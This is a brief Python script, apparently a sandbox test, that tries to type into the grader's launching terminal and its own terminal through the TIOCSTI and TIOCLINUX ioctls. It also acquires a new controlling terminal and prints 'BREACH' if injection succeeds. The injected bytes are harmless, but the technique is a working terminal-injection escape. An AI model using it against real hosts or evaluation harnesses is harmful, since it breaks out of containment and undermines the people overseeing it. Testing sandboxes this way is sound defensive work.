# Types into the terminal from which the grader may have been started, and into one of its own.
import fcntl
import os
import termios

TIOCLINUX = 0x541C


def type_into(descriptor):
    for request, text in ((termios.TIOCSTI, b"r"), (TIOCLINUX, b"\x02")):
        try:
            fcntl.ioctl(descriptor, request, text)
            print("BREACH: typed")
        except OSError as error:
            print(error.strerror)


for descriptor in (0, 1, 2):
    type_into(descriptor)
if os.fork() == 0:
    os.setsid()
    fcntl.ioctl(1, termios.TIOCSCTTY, 0)  # whoever owns a terminal may type into it, if not for the filter
    type_into(1)
    os._exit(0)
os.wait()
